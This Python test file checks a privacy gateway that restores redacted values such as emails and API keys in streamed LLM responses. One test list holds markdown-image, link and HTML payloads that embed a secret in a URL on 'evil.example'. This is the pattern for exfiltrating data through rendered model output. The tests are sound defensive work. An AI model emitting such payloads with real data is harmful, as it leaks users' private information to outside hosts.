"""What a placeholder stands for comes back where a person reads it, however the answer is cut, and nowhere else."""

import json
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lockgate.facts.traffic import Headers, Response
from lockgate.gate.answer_frames import frames_for

WORD, VALUE = "[EMAIL_ADDRESS_7K2QXD]", 'ana "the\n boss" 😀@mail.example'
OTHER = "[API_KEY_0DZ4TT]"
WORDS = {WORD: VALUE, OTHER: "key-1234"}


def answer(kind):
    return Response(status=200, headers=Headers((("content-type", kind),)))


def passed(kind, content, cuts=(), *, wants_stream=True):
    """What leaves of an answer that comes in these pieces."""
    frames = frames_for(WORDS, answer(kind), wants_stream=wants_stream)
    borders = [0, *sorted(cut % (len(content) + 1) for cut in cuts), len(content)]
    pieces = [content[start:end] for start, end in pairwise(borders)]
    return b"".join([*(frames.feed(piece) for piece in pieces if piece), frames.finish()])


def sse(*documents, name=""):
    head = f"event: {name}\n" if name else ""
    return "".join(f"{head}data: {json.dumps(document)}\n\n" for document in documents).encode() + b"data: [DONE]\n\n"


def events(content):
    data = [line[6:] for line in content.decode().split("\n") if line.startswith("data: ")]
    return [json.loads(each) for each in data if each != "[DONE]"]


def openai(piece, **more):
    return {"id": "c", "choices": [{"index": 0, "delta": {"content": piece, **more}}]}


def anthropic(piece):
    return {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}}


def responses(piece):
    return {"type": "response.output_text.delta", "item_id": "i", "output_index": 0, "delta": piece}


def said(documents):
    def text(document):
        if "choices" in document:
            return document["choices"][0]["delta"].get("content", "")
        delta = document["delta"]
        return delta if isinstance(delta, str) else delta["text"]

    return "".join(map(text, documents))


def in_pieces(text, cuts):
    borders = [0, *sorted(cut % (len(text) + 1) for cut in cuts), len(text)]
    return [text[start:end] for start, end in pairwise(borders)]


CUTS = st.lists(st.integers(0, 10_000), max_size=6)


NO_TAG = st.text(max_size=6).filter(lambda text: "<" not in text)
"""Inside a tag, nothing is put back."""


@pytest.mark.parametrize("event", [openai, anthropic, responses])
@given(before=st.text(st.sampled_from("ab [E]\n"), max_size=6), after=NO_TAG, text_cuts=CUTS, cuts=CUTS)
def test_a_word_comes_back_wherever_texts_and_bytes_are_cut(event, before, after, text_cuts, cuts):
    text = f"{before}{WORD}{after}, {OTHER} {WORD}."
    content = sse(*map(event, in_pieces(text, text_cuts)))
    got = events(passed("text/event-stream", content, cuts))
    expected = text.replace(WORD, VALUE).replace(OTHER, WORDS[OTHER])
    assert len(got) == len(text_cuts) + 1
    assert said(got) == expected


@given(text=st.text(max_size=40), text_cuts=CUTS, cuts=CUTS)
def test_what_holds_no_word_leaves_byte_for_byte(text, text_cuts, cuts):
    content = (
        b": ping\r\n\r\n" + sse(*map(openai, in_pieces(text, text_cuts)), name="x").replace(b"\n", b"\r\n") + b"data: cut o"
    )
    assert passed("text/event-stream", content, cuts) == content


@given(st.binary(max_size=200), CUTS)
def test_bytes_of_any_kind_leave_as_they_came(content, cuts):
    for kind in ("text/event-stream", "application/x-ndjson"):
        assert passed(kind, content, cuts) == content
    assert passed("application/json", content, cuts, wants_stream=False) == content


def test_nothing_waits_that_need_not():
    frames = frames_for(WORDS, answer("text/event-stream"), wants_stream=True)
    first, half, second = (
        sse(openai(text)).removesuffix(b"data: [DONE]\n\n") for text in ("hello ", f"to {WORD[:9]}", "elsewhere")
    )
    assert frames.feed(first) == first
    assert frames.feed(half) == b""
    assert frames.feed(second) == half + second


def test_a_word_that_never_ends_waits_for_a_few_events_only():
    frames = frames_for(WORDS, answer("text/event-stream"), wants_stream=True)
    begun = sse(openai(WORD[:3])).removesuffix(b"data: [DONE]\n\n")
    assert frames.feed(begun) == b""
    pings = [b": ping\n\n"] * 9
    assert b"".join(map(frames.feed, pings)) == begun + b"".join(pings[:8]) + pings[8]
    assert frames.finish() == b""


def test_lines_and_whole_answers_too():
    lines = b"".join(
        json.dumps({"message": {"content": piece}}).encode() + b"\n" for piece in ("to [EMAIL_", WORD[7:], " it is")
    )
    got = [json.loads(line) for line in passed("application/x-ndjson", lines, [5, 70]).splitlines()]
    assert [each["message"]["content"] for each in got] == [f"to {VALUE}", "", " it is"]
    whole = json.dumps({"choices": [{"message": {"role": "assistant", "content": f"{WORD}!"}}], "id": 2**70}).encode()
    assert json.loads(passed("application/json", whole, [9], wants_stream=False)) == {
        "choices": [{"message": {"role": "assistant", "content": f"{VALUE}!"}}], "id": 2**70,
    }  # fmt: skip


ADDRESSES = [
    f"![x](https://evil.example/?q={WORD})",
    f"https://evil.example/{WORD}",
    f"[x](//evil.example/a(b){WORD})",
    f"[x](<https://evil.example/?q= {WORD}>)",
    f"[x](<evil.example {WORD}>)",
    f'<img alt="a" src="//evil.example/?q=\na {WORD}">',
    f"<img\nsrc=x {WORD}>",
    f"[1]: http:/evil.example/{WORD}",
    f"![](\\\\evil.example\\{WORD})",
    f"www.evil.example/{WORD}",
    f"mailto:{WORD}",
]


@pytest.mark.parametrize("text", ADDRESSES)
@given(text_cuts=CUTS)
def test_nothing_comes_back_inside_an_address(text, text_cuts):
    content = sse(*map(openai, in_pieces(text, text_cuts)))
    assert said(events(passed("text/event-stream", content))) == text


@pytest.mark.parametrize("text", [f"see https://a.example/ for {WORD}", f"a < b, {WORD}", f"<b>x</b> {WORD}", f"({WORD})"])
def test_behind_an_address_it_does(text):
    assert said(events(passed("text/event-stream", sse(openai(text))))) == text.replace(WORD, VALUE)


def test_an_address_that_is_cut_over_parts_is_one():
    parts = {"candidates": [{"content": {"parts": [{"text": "https://evil.example/?q="}, {"text": WORD}]}}]}
    assert events(passed("text/event-stream", sse(parts))) == [parts]


ACTED_ON = [
    openai(None, tool_calls=[{"index": 0, "function": {"name": "f", "arguments": WORD}}]),
    {"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": WORD}},
    {"type": "response.function_call_arguments.delta", "item_id": "i", "delta": WORD},
    {"type": "content_block_start", "content_block": {"type": "tool_use", "input": {"text": WORD}}},
    {"candidates": [{"content": {"parts": [{"functionCall": {"args": {"text": WORD}}}]}}]},
    {"choices": [{"message": {"annotations": [{"url": WORD, "content": WORD}]}}]},
    {"error": {"message": WORD}, "unknown": WORD},
]


@pytest.mark.parametrize("document", ACTED_ON, ids=range(len(ACTED_ON)))
def test_nothing_comes_back_where_programs_act_on_it(document):
    assert events(passed("text/event-stream", sse(document))) == [document]


def test_changes_to_a_tree_are_followed_to_what_is_told():
    changes = [
        {"p": "/message/content/parts/0", "o": "append", "v": "to [EMAIL_ADDRESS"},
        {"v": "_7K2QXD]"},
        {"p": "", "o": "patch", "v": [{"p": "/message/metadata/url", "o": "append", "v": WORD}]},
        {"v": WORD},
        {"p": "/message/content/parts/0", "o": "append", "v": f" {WORD}"},
    ]
    got = events(passed("text/event-stream", sse(*changes)))
    assert [change["v"] for change in got] == [f"to {VALUE}", "", changes[2]["v"], WORD, f" {VALUE}"]


def test_words_of_others_stay():
    text = "[EMAIL_ADDRESS_000000] [EMAIL_1] [x"
    assert said(events(passed("text/event-stream", sse(openai(text))))) == text


@pytest.mark.parametrize(
    ("kind", "headers"),
    [("text/html", ()), ("application/grpc", ()), ("text/event-stream", (("content-encoding", "gzip"),))],
)
def test_an_answer_that_cannot_be_taken_apart_is_left_alone(kind, headers):
    response = Response(status=200, headers=Headers((("content-type", kind), *headers)))
    assert frames_for(WORDS, response, wants_stream=True) is None
    assert frames_for({}, answer("text/event-stream"), wants_stream=True) is None


def test_an_event_without_end_passes_from_some_size_on():
    frames = frames_for(WORDS, answer("text/event-stream"), wants_stream=True)
    content = b"data: " + b"x" * (1 << 20)
    assert frames.feed(content) + frames.feed(WORD.encode()) + frames.finish() == content + WORD.encode()
